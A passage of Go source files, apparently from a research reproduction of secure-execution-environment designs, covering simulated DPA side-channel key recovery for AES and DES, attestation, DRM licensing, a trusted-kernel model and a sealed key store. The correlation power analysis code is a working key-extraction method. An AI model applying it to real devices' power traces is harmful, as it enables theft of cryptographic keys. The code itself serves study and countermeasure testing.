		t.Error("accepted zero traces")
	}
	if _, _, err := AttackAESEM(&TraceSet{}); err == nil {
		t.Error("attacked empty set")
	}
}
