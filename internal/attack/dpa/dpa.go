// Package dpa implements correlation power analysis (the practical form
// of Kocher's Differential Power Analysis [44], cited by the paper's
// Section 3.4 as the most common eavesdropping attack) against the AES
// and DES implementations in this repository.
//
// The power model is the standard Hamming-weight leakage: each simulated
// trace point is HW(first-round S-box output) plus Gaussian noise, the
// signal a real trace shows when the S-box output is written to a bus or
// register. The attack correlates key-byte hypotheses against the traces;
// the masking countermeasure (a fresh random mask XORed into every S-box
// output) destroys the correlation.
package dpa

import (
	"context"
	"errors"
	"fmt"
	"math"

	"repro/internal/crypto/aes"
	"repro/internal/crypto/bitutil"
	"repro/internal/crypto/des"
	"repro/internal/crypto/prng"
	"repro/internal/par"
)

// TraceSet is a collection of simulated power traces with their inputs.
type TraceSet struct {
	Plaintexts [][]byte
	Traces     [][]float64 // one trace per plaintext; one point per target
}

// CollectAES simulates n first-round AES power traces for the given
// 16-byte key. noiseStd is the Gaussian noise level in Hamming-weight
// units; masked applies a fresh random Boolean mask to each S-box output
// (the countermeasure).
func CollectAES(key []byte, n int, noiseStd float64, rng *prng.DRBG, masked bool) (*TraceSet, error) {
	if len(key) != 16 {
		return nil, fmt.Errorf("dpa: AES-128 key must be 16 bytes, got %d", len(key))
	}
	if n <= 0 {
		return nil, errors.New("dpa: need at least one trace")
	}
	ts := &TraceSet{
		Plaintexts: make([][]byte, n),
		Traces:     make([][]float64, n),
	}
	// The DRBG is stateful, so all randomness is drawn up front in the
	// exact per-byte interleaving the sequential loop used (mask byte then
	// noise sample); the trace math itself is pure and fans out across the
	// worker pool. Trace sets are byte-identical to the sequential path.
	masks := make([][]byte, n)
	noise := make([][]float64, n)
	for t := 0; t < n; t++ {
		ts.Plaintexts[t] = rng.Bytes(16)
		if masked {
			masks[t] = make([]byte, 16)
		}
		if noiseStd > 0 {
			noise[t] = make([]float64, 16)
		}
		for j := 0; j < 16; j++ {
			if masked {
				masks[t][j] = rng.Bytes(1)[0]
			}
			if noiseStd > 0 {
				noise[t][j] = rng.NormFloat64()
			}
		}
	}
	_ = par.ForN(context.Background(), par.DefaultWorkers(), n, func(t int) error {
		pt := ts.Plaintexts[t]
		trace := make([]float64, 16)
		for j := 0; j < 16; j++ {
			v := aes.SBox(pt[j] ^ key[j])
			if masked {
				v ^= masks[t][j]
			}
			leak := float64(bitutil.HammingWeight8(v))
			if noiseStd > 0 {
				leak += noise[t][j] * noiseStd
			}
			trace[j] = leak
		}
		ts.Traces[t] = trace
		return nil
	})
	return ts, nil
}

// AttackAES recovers the 16-byte AES-128 key from first-round traces by
// maximizing the Pearson correlation of the Hamming-weight hypothesis.
// It returns the best key and, per byte, the winning correlation.
func AttackAES(ts *TraceSet) ([]byte, []float64, error) {
	if len(ts.Plaintexts) == 0 || len(ts.Plaintexts) != len(ts.Traces) {
		return nil, nil, errors.New("dpa: empty or inconsistent trace set")
	}
	n := len(ts.Plaintexts)
	key := make([]byte, 16)
	corrs := make([]float64, 16)
	// Each key byte's 256-guess scan is independent; workers keep private
	// hypothesis/observation buffers and write only their own slot.
	_ = par.ForN(context.Background(), par.DefaultWorkers(), 16, func(j int) error {
		hyp := make([]float64, n)
		obs := make([]float64, n)
		best, bestCorr := 0, math.Inf(-1)
		for i := 0; i < n; i++ {
			obs[i] = ts.Traces[i][j]
		}
		for guess := 0; guess < 256; guess++ {
			for i := 0; i < n; i++ {
				hyp[i] = float64(bitutil.HammingWeight8(aes.SBox(ts.Plaintexts[i][j] ^ byte(guess))))
			}
			c := math.Abs(pearson(hyp, obs))
			if c > bestCorr {
				bestCorr = c
				best = guess
			}
		}
		key[j] = byte(best)
		corrs[j] = bestCorr
		return nil
	})
	return key, corrs, nil
}

// CollectDES simulates n first-round DES traces for the given 8-byte key:
// one point per S-box, leaking HW of the 4-bit S-box output.
func CollectDES(key []byte, n int, noiseStd float64, rng *prng.DRBG, masked bool) (*TraceSet, error) {
	c, err := des.NewCipher(key)
	if err != nil {
		return nil, err
	}
	if n <= 0 {
		return nil, errors.New("dpa: need at least one trace")
	}
	k1 := c.Subkey(0)
	ts := &TraceSet{
		Plaintexts: make([][]byte, n),
		Traces:     make([][]float64, n),
	}
	// Same pre-draw discipline as CollectAES: the DRBG stream is consumed
	// in the sequential order, the pure trace math runs on the pool.
	masks := make([][]byte, n)
	noise := make([][]float64, n)
	for t := 0; t < n; t++ {
		ts.Plaintexts[t] = rng.Bytes(8)
		if masked {
			masks[t] = make([]byte, 8)
		}
		if noiseStd > 0 {
			noise[t] = make([]float64, 8)
		}
		for box := 0; box < 8; box++ {
			if masked {
				masks[t][box] = rng.Bytes(1)[0]
			}
			if noiseStd > 0 {
				noise[t][box] = rng.NormFloat64()
			}
		}
	}
	_ = par.ForN(context.Background(), par.DefaultWorkers(), n, func(t int) error {
		pt := ts.Plaintexts[t]
		// First-round state: IP splits the block; the Feistel function
		// expands R0 and XORs subkey 1.
		b := bitutil.Load64(pt)
		ip := des.InitialPermute(b)
		r0 := uint32(ip)
		x := des.ExpandHalf(r0) ^ k1
		trace := make([]float64, 8)
		for box := 0; box < 8; box++ {
			six := uint8(x >> (uint(7-box) * 6) & 0x3f)
			out := des.SBox(box, six)
			if masked {
				out ^= masks[t][box] & 0x0f
			}
			leak := float64(bitutil.HammingWeight8(out))
			if noiseStd > 0 {
				leak += noise[t][box] * noiseStd
			}
			trace[box] = leak
		}
		ts.Traces[t] = trace
		return nil
	})
	return ts, nil
}

// AttackDES recovers DES round-1's 48-bit subkey (as eight 6-bit chunks)
// from first-round traces.
func AttackDES(ts *TraceSet) (uint64, []float64, error) {
	if len(ts.Plaintexts) == 0 || len(ts.Plaintexts) != len(ts.Traces) {
		return 0, nil, errors.New("dpa: empty or inconsistent trace set")
	}
	n := len(ts.Plaintexts)
	corrs := make([]float64, 8)
	bests := make([]int, 8)
	// Precompute each trace's expanded R0.
	expanded := make([]uint64, n)
	for i, pt := range ts.Plaintexts {
		ip := des.InitialPermute(bitutil.Load64(pt))
		expanded[i] = des.ExpandHalf(uint32(ip))
	}
	// The eight S-box scans are independent; the 48-bit subkey is
	// reassembled from the per-box winners afterwards, in box order.
	_ = par.ForN(context.Background(), par.DefaultWorkers(), 8, func(box int) error {
		shift := uint(7-box) * 6
		hyp := make([]float64, n)
		obs := make([]float64, n)
		for i := 0; i < n; i++ {
			obs[i] = ts.Traces[i][box]
		}
		best, bestCorr := 0, math.Inf(-1)
		for guess := 0; guess < 64; guess++ {
			for i := 0; i < n; i++ {
				six := uint8(expanded[i]>>shift&0x3f) ^ uint8(guess)
				hyp[i] = float64(bitutil.HammingWeight8(des.SBox(box, six)))
			}
			c := math.Abs(pearson(hyp, obs))
			if c > bestCorr {
				bestCorr = c
				best = guess
			}
		}
		bests[box] = best
		corrs[box] = bestCorr
		return nil
	})
	var subkey uint64
	for box := 0; box < 8; box++ {
		subkey |= uint64(bests[box]) << (uint(7-box) * 6)
	}
	return subkey, corrs, nil
}

// pearson computes the Pearson correlation coefficient of two equal-length
// series (0 when either is constant).
func pearson(x, y []float64) float64 {
	n := float64(len(x))
	if n == 0 {
		return 0
	}
	var sx, sy float64
	for i := range x {
		sx += x[i]
		sy += y[i]
	}
	mx, my := sx/n, sy/n
	var cov, vx, vy float64
	for i := range x {
		dx, dy := x[i]-mx, y[i]-my
		cov += dx * dy
		vx += dx * dx
		vy += dy * dy
	}
	if vx == 0 || vy == 0 {
		return 0
	}
	return cov / math.Sqrt(vx*vy)
}
