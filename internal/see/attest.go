package see

import (
	"bytes"
	"errors"
	"fmt"
)

// Attestor re-measures the boot-chain images at run time against the
// measurements recorded at boot — the paper's software-attack-resistance
// measure (i): "finding a means to ascertain the operational correctness
// of protected code and data, before and during run-time" (Section 3.4).
type Attestor struct {
	baseline [][20]byte
	names    []string
	checks   int
}

// NewAttestor captures the boot report as the runtime baseline.
func NewAttestor(rep *BootReport) (*Attestor, error) {
	if rep == nil || len(rep.Measurements) == 0 {
		return nil, errors.New("see: attestor needs a boot report")
	}
	a := &Attestor{}
	a.baseline = append(a.baseline, rep.Measurements...)
	a.names = append(a.names, rep.Stages...)
	return a, nil
}

// TamperReport identifies a runtime-patched stage.
type TamperReport struct {
	Stage int
	Name  string
}

func (r *TamperReport) Error() string {
	return fmt.Sprintf("see: runtime tampering detected in stage %d (%s)", r.Stage, r.Name)
}

// Check re-measures the (currently loaded) images; the first stage whose
// digest diverges from the boot-time baseline is reported.
func (a *Attestor) Check(images []*Image) error {
	a.checks++
	if len(images) != len(a.baseline) {
		return errors.New("see: image set size changed since boot")
	}
	for i, im := range images {
		d := im.Digest()
		if !bytes.Equal(d[:], a.baseline[i][:]) {
			return &TamperReport{Stage: i, Name: a.names[i]}
		}
	}
	return nil
}

// Checks reports how many attestation rounds have run.
func (a *Attestor) Checks() int { return a.checks }
