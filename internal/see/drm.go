package see

import (
	"errors"
	"fmt"
	"hash"

	"repro/internal/crypto/aes"
	"repro/internal/crypto/hmac"
	"repro/internal/crypto/modes"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/sha1"
)

// Rights is the usage grant of a content license — the "read only, no
// copying" terms of the paper's content-security concern (Section 2).
type Rights struct {
	PlayCount int  // remaining plays; <0 means unlimited
	AllowCopy bool // export to another device permitted
}

// License binds an encrypted content key and rights to one device.
type License struct {
	ContentID string
	Rights    Rights
	// sealedKey is the content key encrypted under the device key.
	sealedKey []byte
	mac       []byte
}

// DRMAgent enforces content licenses inside the secure environment.
type DRMAgent struct {
	deviceKey []byte
	rng       *prng.DRBG
	licenses  map[string]*License
	content   map[string][]byte // encrypted content by ID
}

// Errors returned by the DRM agent.
var (
	ErrNoLicense     = errors.New("see/drm: no license for content")
	ErrRightsExpired = errors.New("see/drm: play count exhausted")
	ErrCopyDenied    = errors.New("see/drm: license forbids copying")
	ErrLicenseTamper = errors.New("see/drm: license integrity check failed")
	ErrWrongDevice   = errors.New("see/drm: license is bound to another device")
)

// NewDRMAgent creates an agent bound to the device's fused key.
func NewDRMAgent(deviceKey []byte, rng *prng.DRBG) (*DRMAgent, error) {
	if len(deviceKey) < 16 {
		return nil, fmt.Errorf("see/drm: device key must be ≥16 bytes, got %d", len(deviceKey))
	}
	if rng == nil {
		return nil, errors.New("see/drm: randomness source required")
	}
	return &DRMAgent{
		deviceKey: append([]byte{}, deviceKey...),
		rng:       rng,
		licenses:  make(map[string]*License),
		content:   make(map[string][]byte),
	}, nil
}

func (a *DRMAgent) kdf(label string) []byte {
	h := hmac.New(func() hash.Hash { return sha1.New() }, a.deviceKey)
	h.Write([]byte(label))
	return h.Sum(nil)[:16]
}

func (a *DRMAgent) licenseMAC(l *License) []byte {
	h := hmac.New(func() hash.Hash { return sha1.New() }, a.kdf("license-mac"))
	h.Write([]byte(l.ContentID))
	h.Write([]byte{byte(l.Rights.PlayCount >> 24), byte(l.Rights.PlayCount >> 16),
		byte(l.Rights.PlayCount >> 8), byte(l.Rights.PlayCount)})
	if l.Rights.AllowCopy {
		h.Write([]byte{1})
	} else {
		h.Write([]byte{0})
	}
	h.Write(l.sealedKey)
	return h.Sum(nil)
}

// Package is the provider side: encrypt content and issue a license bound
// to this device. (In a deployment the provider would wrap the content
// key to the device's public key; the shared-key model preserves the
// enforcement behaviour.)
func (a *DRMAgent) Package(contentID string, plaintext []byte, rights Rights) error {
	contentKey := a.rng.Bytes(16)
	block, err := aes.NewCipher(contentKey)
	if err != nil {
		return err
	}
	iv := a.rng.Bytes(16)
	ct, err := modes.EncryptCBC(block, iv, modes.Pad(plaintext, 16))
	if err != nil {
		return err
	}
	a.content[contentID] = append(iv, ct...)

	// Seal the content key to the device.
	devBlock, err := aes.NewCipher(a.kdf("key-seal"))
	if err != nil {
		return err
	}
	sealIV := a.rng.Bytes(16)
	sealed, err := modes.EncryptCBC(devBlock, sealIV, modes.Pad(contentKey, 16))
	if err != nil {
		return err
	}
	lic := &License{
		ContentID: contentID,
		Rights:    rights,
		sealedKey: append(sealIV, sealed...),
	}
	lic.mac = a.licenseMAC(lic)
	a.licenses[contentID] = lic
	return nil
}

// ImportLicense installs a license issued elsewhere (e.g. moved from
// another device); integrity and device binding are checked at use.
func (a *DRMAgent) ImportLicense(l *License, encryptedContent []byte) {
	cp := *l
	a.licenses[l.ContentID] = &cp
	a.content[l.ContentID] = append([]byte{}, encryptedContent...)
}

// ExportLicense extracts a license and content for transfer, enforcing
// the no-copy right.
func (a *DRMAgent) ExportLicense(contentID string) (*License, []byte, error) {
	l, ok := a.licenses[contentID]
	if !ok {
		return nil, nil, ErrNoLicense
	}
	if !hmac.Equal(l.mac, a.licenseMAC(l)) {
		return nil, nil, ErrLicenseTamper
	}
	if !l.Rights.AllowCopy {
		return nil, nil, ErrCopyDenied
	}
	cp := *l
	return &cp, append([]byte{}, a.content[contentID]...), nil
}

// Play decrypts the content for one rendering, enforcing and decrementing
// the play count. The plaintext never persists outside the call.
func (a *DRMAgent) Play(contentID string) ([]byte, error) {
	l, ok := a.licenses[contentID]
	if !ok {
		return nil, ErrNoLicense
	}
	if !hmac.Equal(l.mac, a.licenseMAC(l)) {
		return nil, ErrLicenseTamper
	}
	if l.Rights.PlayCount == 0 {
		return nil, ErrRightsExpired
	}
	// Unseal the content key with the *device* key — a license imported
	// onto another device unseals garbage and fails below.
	devBlock, err := aes.NewCipher(a.kdf("key-seal"))
	if err != nil {
		return nil, err
	}
	if len(l.sealedKey) < 32 {
		return nil, ErrLicenseTamper
	}
	sealIV, sealed := l.sealedKey[:16], l.sealedKey[16:]
	keyPadded, err := modes.DecryptCBC(devBlock, sealIV, sealed)
	if err != nil {
		return nil, ErrWrongDevice
	}
	contentKey, err := modes.Unpad(keyPadded, 16)
	if err != nil || len(contentKey) != 16 {
		return nil, ErrWrongDevice
	}
	enc, ok := a.content[contentID]
	if !ok || len(enc) < 16 {
		return nil, ErrNoLicense
	}
	block, err := aes.NewCipher(contentKey)
	if err != nil {
		return nil, err
	}
	pt, err := modes.DecryptCBC(block, enc[:16], enc[16:])
	if err != nil {
		return nil, ErrWrongDevice
	}
	out, err := modes.Unpad(pt, 16)
	if err != nil {
		return nil, ErrWrongDevice
	}
	if l.Rights.PlayCount > 0 {
		l.Rights.PlayCount--
		l.mac = a.licenseMAC(l)
	}
	return out, nil
}

// RemainingPlays reports the license's remaining play count.
func (a *DRMAgent) RemainingPlays(contentID string) (int, error) {
	l, ok := a.licenses[contentID]
	if !ok {
		return 0, ErrNoLicense
	}
	return l.Rights.PlayCount, nil
}
