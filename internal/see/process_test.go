package see

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"repro/internal/crypto/prng"
	"repro/internal/crypto/rsa"
)

var vendorKey *rsa.PrivateKey

func vendor(t *testing.T) *rsa.PrivateKey {
	t.Helper()
	if vendorKey == nil {
		var err error
		vendorKey, err = rsa.GenerateKey(prng.NewDRBG([]byte("vendor")), 512)
		if err != nil {
			t.Fatal(err)
		}
	}
	return vendorKey
}

func newKernel(t *testing.T, quota int) (*Kernel, *KeyStore) {
	t.Helper()
	ks, err := NewKeyStore(bytes.Repeat([]byte{3}, 16), prng.NewDRBG([]byte("kern")))
	if err != nil {
		t.Fatal(err)
	}
	ks.Put("sim-ki", []byte("subscriber key"))
	k, err := NewKernel(ks, &vendor(t).PublicKey, quota)
	if err != nil {
		t.Fatal(err)
	}
	return k, ks
}

func TestSignedAppIsTrusted(t *testing.T) {
	k, _ := newKernel(t, 0)
	code := []byte("dialer app v1")
	sig, err := SignApp(vendor(t), "dialer", code)
	if err != nil {
		t.Fatal(err)
	}
	p, err := k.Install("dialer", code, sig)
	if err != nil {
		t.Fatal(err)
	}
	if !p.Trusted {
		t.Fatal("signed app not trusted")
	}
	got, err := k.RequestSecret(p, "sim-ki")
	if err != nil || !bytes.Equal(got, []byte("subscriber key")) {
		t.Fatalf("trusted read failed: %v", err)
	}
}

// TestTrojanDenied is the paper's trojan-horse scenario: downloaded,
// unsigned code runs but cannot reach secrets, and the denial is audited.
func TestTrojanDenied(t *testing.T) {
	k, _ := newKernel(t, 0)
	trojan, err := k.Install("free-game", []byte("evil payload"), nil)
	if err != nil {
		t.Fatal(err)
	}
	if trojan.Trusted {
		t.Fatal("unsigned app trusted")
	}
	if _, err := k.RequestSecret(trojan, "sim-ki"); err != ErrUntrustedProcess {
		t.Fatalf("privacy attack: want ErrUntrustedProcess, got %v", err)
	}
	if err := k.StoreSecret(trojan, "sim-ki", []byte("overwritten")); err != ErrUntrustedProcess {
		t.Fatalf("integrity attack: want ErrUntrustedProcess, got %v", err)
	}
	found := false
	for _, line := range k.Audit() {
		if strings.Contains(line, "DENIED") {
			found = true
		}
	}
	if !found {
		t.Fatal("denials not audited")
	}
}

// TestTamperedSignatureRejected: modifying signed code invalidates it.
func TestTamperedSignatureRejected(t *testing.T) {
	k, _ := newKernel(t, 0)
	code := []byte("wallet app")
	sig, _ := SignApp(vendor(t), "wallet", code)
	patched := append([]byte{}, code...)
	patched[0] ^= 1
	if _, err := k.Install("wallet", patched, sig); err != ErrBadAppSignature {
		t.Fatalf("want ErrBadAppSignature, got %v", err)
	}
	// Signature over a different name also fails.
	if _, err := k.Install("wallet2", code, sig); err != ErrBadAppSignature {
		t.Fatalf("name swap: want ErrBadAppSignature, got %v", err)
	}
}

// TestQuotaStopsAvailabilityAttack: a syscall-flooding process is
// throttled, and other processes continue to be served.
func TestQuotaStopsAvailabilityAttack(t *testing.T) {
	k, _ := newKernel(t, 5)
	flooder, _ := k.Install("flooder", []byte("spin"), nil)
	for i := 0; i < 5; i++ {
		if _, err := k.RequestSecret(flooder, "sim-ki"); err != ErrUntrustedProcess {
			t.Fatalf("call %d: %v", i, err)
		}
	}
	if _, err := k.RequestSecret(flooder, "sim-ki"); err != ErrQuotaExhausted {
		t.Fatalf("want ErrQuotaExhausted, got %v", err)
	}
	// An honest trusted app still works.
	code := []byte("bank app")
	sig, _ := SignApp(vendor(t), "bank", code)
	bank, _ := k.Install("bank", code, sig)
	if _, err := k.RequestSecret(bank, "sim-ki"); err != nil {
		t.Fatalf("honest app starved: %v", err)
	}
}

func TestTrustedWriteVisible(t *testing.T) {
	k, ks := newKernel(t, 0)
	code := []byte("provisioner")
	sig, _ := SignApp(vendor(t), "prov", code)
	p, _ := k.Install("prov", code, sig)
	if err := k.StoreSecret(p, "new-key", []byte("fresh")); err != nil {
		t.Fatal(err)
	}
	got, err := ks.Get("new-key")
	if err != nil || !bytes.Equal(got, []byte("fresh")) {
		t.Fatal("trusted write not persisted")
	}
	if _, err := k.RequestSecret(p, "missing"); err != ErrNotFound {
		t.Fatalf("want ErrNotFound, got %v", err)
	}
}

func TestNewKernelValidation(t *testing.T) {
	if _, err := NewKernel(nil, &vendor(t).PublicKey, 0); err == nil {
		t.Error("accepted nil key store")
	}
	ks, _ := NewKeyStore(bytes.Repeat([]byte{3}, 16), prng.NewDRBG(nil))
	if _, err := NewKernel(ks, nil, 0); err == nil {
		t.Error("accepted nil vendor key")
	}
}

// ---- attestation ----

func TestAttestorDetectsRuntimePatch(t *testing.T) {
	images := testChain()
	rom, _ := BuildChain(images)
	rep, err := Boot(rom, images)
	if err != nil {
		t.Fatal(err)
	}
	att, err := NewAttestor(rep)
	if err != nil {
		t.Fatal(err)
	}
	if err := att.Check(images); err != nil {
		t.Fatalf("clean check failed: %v", err)
	}
	// Runtime patch of the kernel stage (a virus rewriting code pages).
	images[1].Code[3] ^= 0xff
	err = att.Check(images)
	var tr *TamperReport
	if !errors.As(err, &tr) || tr.Stage != 1 {
		t.Fatalf("want TamperReport at stage 1, got %v", err)
	}
	if att.Checks() != 2 {
		t.Fatalf("checks = %d", att.Checks())
	}
}

func TestAttestorValidation(t *testing.T) {
	if _, err := NewAttestor(nil); err == nil {
		t.Error("accepted nil report")
	}
	images := testChain()
	rom, _ := BuildChain(images)
	rep, _ := Boot(rom, images)
	att, _ := NewAttestor(rep)
	if err := att.Check(images[:2]); err == nil {
		t.Error("accepted shrunken image set")
	}
}
