package see

import (
	"errors"
	"fmt"
	"sort"
)

// World is the execution privilege domain: the paper's "secure execution
// mode ... where only trusted code can execute" (Section 4.1) versus the
// normal application world.
type World int

// Execution worlds.
const (
	Untrusted World = iota
	Trusted
)

func (w World) String() string {
	if w == Trusted {
		return "trusted"
	}
	return "untrusted"
}

// Access is a memory access type.
type Access int

// Access types.
const (
	Read Access = iota
	Write
	Execute
)

func (a Access) String() string {
	switch a {
	case Read:
		return "read"
	case Write:
		return "write"
	default:
		return "execute"
	}
}

// Perm is a permission bit set.
type Perm uint8

// Permission bits.
const (
	PermRead Perm = 1 << iota
	PermWrite
	PermExec
)

func (p Perm) allows(a Access) bool {
	switch a {
	case Read:
		return p&PermRead != 0
	case Write:
		return p&PermWrite != 0
	default:
		return p&PermExec != 0
	}
}

// Region is a protected address range with per-world permissions — secure
// ROM is {Trusted: R+X, Untrusted: none}; secure RAM is {Trusted: R+W,
// Untrusted: none}; normal RAM is open.
type Region struct {
	Name       string
	Base, Size uint32
	Perms      map[World]Perm
	mem        []byte
}

// Violation records a blocked access — the signal a tamper-response
// policy consumes.
type Violation struct {
	World  World
	Access Access
	Addr   uint32
	Region string // empty for unmapped addresses
}

func (v *Violation) Error() string {
	where := v.Region
	if where == "" {
		where = "unmapped"
	}
	return fmt.Sprintf("see: %s-world %s at %#x denied (%s)", v.World, v.Access, v.Addr, where)
}

// MemoryMap is the secure RAM/ROM model of the base architecture
// (Figure 6).
type MemoryMap struct {
	regions    []*Region
	violations []Violation
}

// NewMemoryMap creates an empty memory map.
func NewMemoryMap() *MemoryMap { return &MemoryMap{} }

// AddRegion maps a region; overlapping regions are rejected.
func (m *MemoryMap) AddRegion(name string, base, size uint32, perms map[World]Perm) (*Region, error) {
	if size == 0 {
		return nil, errors.New("see: zero-size region")
	}
	if base+size < base {
		return nil, errors.New("see: region wraps the address space")
	}
	for _, r := range m.regions {
		if base < r.Base+r.Size && r.Base < base+size {
			return nil, fmt.Errorf("see: region %q overlaps %q", name, r.Name)
		}
	}
	cp := make(map[World]Perm, len(perms))
	for w, p := range perms {
		cp[w] = p
	}
	r := &Region{Name: name, Base: base, Size: size, Perms: cp, mem: make([]byte, size)}
	m.regions = append(m.regions, r)
	sort.Slice(m.regions, func(i, j int) bool { return m.regions[i].Base < m.regions[j].Base })
	return r, nil
}

func (m *MemoryMap) find(addr uint32) *Region {
	for _, r := range m.regions {
		if addr >= r.Base && addr < r.Base+r.Size {
			return r
		}
	}
	return nil
}

func (m *MemoryMap) check(w World, a Access, addr uint32, n int) (*Region, error) {
	r := m.find(addr)
	if r == nil || uint32(n) > r.Size-(addr-r.Base) {
		v := Violation{World: w, Access: a, Addr: addr}
		if r != nil {
			v.Region = r.Name
		}
		m.violations = append(m.violations, v)
		return nil, &v
	}
	if !r.Perms[w].allows(a) {
		v := Violation{World: w, Access: a, Addr: addr, Region: r.Name}
		m.violations = append(m.violations, v)
		return nil, &v
	}
	return r, nil
}

// ReadAt performs a checked read of n bytes.
func (m *MemoryMap) ReadAt(w World, addr uint32, n int) ([]byte, error) {
	r, err := m.check(w, Read, addr, n)
	if err != nil {
		return nil, err
	}
	off := addr - r.Base
	return append([]byte{}, r.mem[off:off+uint32(n)]...), nil
}

// WriteAt performs a checked write.
func (m *MemoryMap) WriteAt(w World, addr uint32, data []byte) error {
	r, err := m.check(w, Write, addr, len(data))
	if err != nil {
		return err
	}
	copy(r.mem[addr-r.Base:], data)
	return nil
}

// FetchAt performs a checked instruction fetch (returns the opcode bytes).
func (m *MemoryMap) FetchAt(w World, addr uint32, n int) ([]byte, error) {
	r, err := m.check(w, Execute, addr, n)
	if err != nil {
		return nil, err
	}
	off := addr - r.Base
	return append([]byte{}, r.mem[off:off+uint32(n)]...), nil
}

// LoadROM writes region contents bypassing permissions — factory
// provisioning only (before the device "ships").
func (m *MemoryMap) LoadROM(name string, data []byte) error {
	for _, r := range m.regions {
		if r.Name == name {
			if len(data) > len(r.mem) {
				return errors.New("see: ROM image larger than region")
			}
			copy(r.mem, data)
			return nil
		}
	}
	return fmt.Errorf("see: no region %q", name)
}

// Violations returns the recorded access violations.
func (m *MemoryMap) Violations() []Violation {
	return append([]Violation{}, m.violations...)
}

// StandardLayout builds the Figure 6 memory model: secure ROM (trusted
// read+exec), secure RAM (trusted read+write), and open RAM.
func StandardLayout() (*MemoryMap, error) {
	m := NewMemoryMap()
	if _, err := m.AddRegion("secure-rom", 0x0000_0000, 64<<10, map[World]Perm{
		Trusted: PermRead | PermExec,
	}); err != nil {
		return nil, err
	}
	if _, err := m.AddRegion("secure-ram", 0x1000_0000, 128<<10, map[World]Perm{
		Trusted: PermRead | PermWrite,
	}); err != nil {
		return nil, err
	}
	if _, err := m.AddRegion("normal-ram", 0x2000_0000, 1<<20, map[World]Perm{
		Trusted:   PermRead | PermWrite | PermExec,
		Untrusted: PermRead | PermWrite | PermExec,
	}); err != nil {
		return nil, err
	}
	return m, nil
}

// Gate is the controlled entry into the trusted world: only registered
// entry points may switch worlds, modelling the secure-mode entry
// discipline of SecurCore/SmartMIPS-class designs.
type Gate struct {
	entries map[uint32]string
	world   World
	calls   int
}

// NewGate creates a gate starting in the untrusted world.
func NewGate() *Gate { return &Gate{entries: make(map[uint32]string)} }

// RegisterEntry registers a trusted service entry point address.
func (g *Gate) RegisterEntry(addr uint32, name string) { g.entries[addr] = name }

// World reports the current world.
func (g *Gate) World() World { return g.world }

// Calls reports how many successful world switches have occurred.
func (g *Gate) Calls() int { return g.calls }

// EnterTrusted switches to the trusted world via a registered entry.
func (g *Gate) EnterTrusted(addr uint32) (string, error) {
	name, ok := g.entries[addr]
	if !ok {
		return "", fmt.Errorf("see: %#x is not a registered secure entry point", addr)
	}
	g.world = Trusted
	g.calls++
	return name, nil
}

// ExitTrusted returns to the untrusted world.
func (g *Gate) ExitTrusted() { g.world = Untrusted }
