package see

import (
	"errors"
	"fmt"
	"hash"
	"sort"

	"repro/internal/crypto/aes"
	"repro/internal/crypto/hmac"
	"repro/internal/crypto/modes"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/sha1"
)

// KeyStore is the secure storage of Section 2 ("passwords, PINs, keys,
// certificates ... in secondary storage"): entries are sealed with keys
// derived from a hardware-fused device secret, integrity-protected, and
// bound to a monotonic version to defeat rollback.
type KeyStore struct {
	encKey  []byte
	macKey  []byte
	rng     *prng.DRBG
	entries map[string][]byte
	version uint64
}

// Errors returned by the key store.
var (
	ErrNotFound  = errors.New("see: no such entry")
	ErrTampered  = errors.New("see: sealed blob failed integrity check")
	ErrRolledBak = errors.New("see: sealed blob is older than the device counter (rollback)")
)

// NewKeyStore derives the sealing keys from the device's hardware-fused
// secret (never used directly, mirroring real key-ladder designs).
func NewKeyStore(hwKey []byte, rng *prng.DRBG) (*KeyStore, error) {
	if len(hwKey) < 16 {
		return nil, fmt.Errorf("see: hardware key must be ≥16 bytes, got %d", len(hwKey))
	}
	if rng == nil {
		return nil, errors.New("see: key store needs a randomness source")
	}
	derive := func(label string) []byte {
		h := hmac.New(func() hash.Hash { return sha1.New() }, hwKey)
		h.Write([]byte(label))
		return h.Sum(nil)[:16]
	}
	return &KeyStore{
		encKey:  derive("seal-enc"),
		macKey:  derive("seal-mac"),
		rng:     rng,
		entries: make(map[string][]byte),
	}, nil
}

// Put stores a secret under a name.
func (ks *KeyStore) Put(name string, secret []byte) {
	ks.entries[name] = append([]byte{}, secret...)
}

// Get retrieves a secret.
func (ks *KeyStore) Get(name string) ([]byte, error) {
	v, ok := ks.entries[name]
	if !ok {
		return nil, ErrNotFound
	}
	return append([]byte{}, v...), nil
}

// Delete removes a secret.
func (ks *KeyStore) Delete(name string) { delete(ks.entries, name) }

// Names lists stored entry names, sorted.
func (ks *KeyStore) Names() []string {
	var names []string
	for n := range ks.entries {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

// Version reports the device's monotonic counter.
func (ks *KeyStore) Version() uint64 { return ks.version }

// Seal serializes and seals the whole store for flash: version || IV ||
// AES-CBC(entries) || HMAC. Sealing bumps the monotonic counter — an old
// blob can no longer be restored.
func (ks *KeyStore) Seal() ([]byte, error) {
	ks.version++
	var b builderBytes
	b.addUint64(ks.version)
	names := ks.Names()
	b.addUint32(uint32(len(names)))
	for _, n := range names {
		b.addBytes([]byte(n))
		b.addBytes(ks.entries[n])
	}
	block, err := aes.NewCipher(ks.encKey)
	if err != nil {
		return nil, err
	}
	iv := ks.rng.Bytes(block.BlockSize())
	ct, err := modes.EncryptCBC(block, iv, modes.Pad(b.buf, block.BlockSize()))
	if err != nil {
		return nil, err
	}
	var out builderBytes
	out.addUint64(ks.version)
	out.buf = append(out.buf, iv...)
	out.buf = append(out.buf, ct...)
	h := hmac.New(func() hash.Hash { return sha1.New() }, ks.macKey)
	h.Write(out.buf)
	return h.Sum(out.buf), nil
}

// Unseal restores the store from a sealed blob, rejecting tampered blobs
// and blobs older than the device counter.
func (ks *KeyStore) Unseal(blob []byte) error {
	macLen := sha1.Size
	if len(blob) < 8+16+macLen {
		return ErrTampered
	}
	body, mac := blob[:len(blob)-macLen], blob[len(blob)-macLen:]
	h := hmac.New(func() hash.Hash { return sha1.New() }, ks.macKey)
	h.Write(body)
	if !hmac.Equal(mac, h.Sum(nil)) {
		return ErrTampered
	}
	var version uint64
	for i := 0; i < 8; i++ {
		version = version<<8 | uint64(body[i])
	}
	if version < ks.version {
		return ErrRolledBak
	}
	block, err := aes.NewCipher(ks.encKey)
	if err != nil {
		return err
	}
	bs := block.BlockSize()
	iv := body[8 : 8+bs]
	pt, err := modes.DecryptCBC(block, iv, body[8+bs:])
	if err != nil {
		return ErrTampered
	}
